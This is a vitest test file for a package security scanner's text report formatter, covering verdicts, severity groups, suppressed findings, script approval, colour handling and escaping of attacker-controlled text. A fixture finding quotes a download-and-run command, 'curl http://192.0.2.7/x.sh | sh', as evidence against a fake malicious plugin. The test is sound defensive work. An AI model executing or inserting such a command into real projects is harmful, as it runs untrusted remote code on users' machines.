import { describe, expect, it } from 'vitest';
import { colorWanted, renderText } from '../../src/report/format.js';
import { MIXED_FINDINGS, report } from './sample-reports.js';

const ANSI = /\u001b\[/;

describe('renderText', () => {
  const text = renderText(report(MIXED_FINDINGS), { color: false });

  it('starts with the target and the verdict, and says what to do', () => {
    const lines = text.split('\n');
    expect(lines[0]).toContain('@evil/plugin@1.0.0');
    expect(text).toMatch(/^verdict: BLOCK \(1 critical, 1 high, 2 low, 1 info, 1 suppressed\)$/m);
    expect(text).toContain('Do not install or load this');
  });

  it('groups findings by severity, highest first, each with package, file:line, evidence and fix', () => {
    const headings = [...text.matchAll(/^(CRITICAL|HIGH|MEDIUM|LOW|INFO) \((\d+)\)$/gm)].map((m) => `${m[1]} ${m[2]}`);
    expect(headings).toEqual(['CRITICAL 1', 'HIGH 1', 'LOW 2', 'INFO 1']);
    const critical = text.slice(text.indexOf('CRITICAL (1)'), text.indexOf('HIGH (1)'));
    expect(critical).toContain('threat-install-download-exec: Install script downloads and runs a remote script');
    expect(critical).toContain('at helper@2.0.0 install.js:12 (via @evil/plugin>helper)');
    expect(critical).toContain('evidence: curl http://192.0.2.7/x.sh | sh');
    expect(critical).toContain('fix: Do not install; report the package to the registry.');
  });

  it('keeps suppressed findings visible but out of the severity groups', () => {
    const beforeSuppressed = text.slice(0, text.indexOf('SUPPRESSED (1)'));
    expect(beforeSuppressed).not.toContain('threat-obfuscated-code');
    expect(text.slice(text.indexOf('SUPPRESSED (1)'))).toContain('suppressed: Reviewed: vendored minified SDK, not obfuscation (until 2027-01-01)');
  });

  it('lists lifecycle scripts with their approval state and says how to approve', () => {
    expect(text).toContain('[not approved] helper@2.0.0 postinstall: node install.js');
    expect(text).toContain('[approved] esbuild@0.25.0 postinstall: node install.js');
    expect(text).toContain('clawguard plugins approve-scripts evil-plugin');
  });

  it('neutralises terminal escapes and invisible characters in attacker text', () => {
    expect(text).not.toMatch(ANSI);
    expect(text).toContain('\\u{1b}[2K');
    expect(text).not.toContain('\r');
    expect(text).not.toContain('\u202e');
    expect(text).toContain('\\u{202e}');
  });

  it('uses colour only when asked, and never for NO_COLOR or a non-TTY', () => {
    expect(renderText(report(MIXED_FINDINGS), { color: true })).toMatch(ANSI);
    const saved = process.env.NO_COLOR;
    try {
      delete process.env.NO_COLOR;
      expect(colorWanted({ isTTY: true })).toBe(true);
      expect(colorWanted({ isTTY: false })).toBe(false);
      expect(colorWanted({})).toBe(false);
      process.env.NO_COLOR = '1';
      expect(colorWanted({ isTTY: true })).toBe(false);
      // Under vitest stdout is not a TTY: the default is plain text.
      delete process.env.NO_COLOR;
      if (!process.stdout.isTTY) expect(renderText(report(MIXED_FINDINGS))).not.toMatch(ANSI);
    } finally {
      if (saved === undefined) delete process.env.NO_COLOR;
      else process.env.NO_COLOR = saved;
    }
  });

  it('says allow plainly for a clean report, and totals several reports', () => {
    const clean = renderText(report([], { lifecycleScripts: [] }), { color: false });
    expect(clean).toMatch(/^verdict: ALLOW \(no findings\)$/m);
    expect(clean).toContain('Nothing here needs action.');
    const many = renderText([report(MIXED_FINDINGS), report([]), report([{ ruleId: 'x', severity: 'medium', message: 'm' }])], { color: false });
    expect(many).toMatch(/^3 targets: 1 block, 1 warn, 1 allow$/m);
  });
});
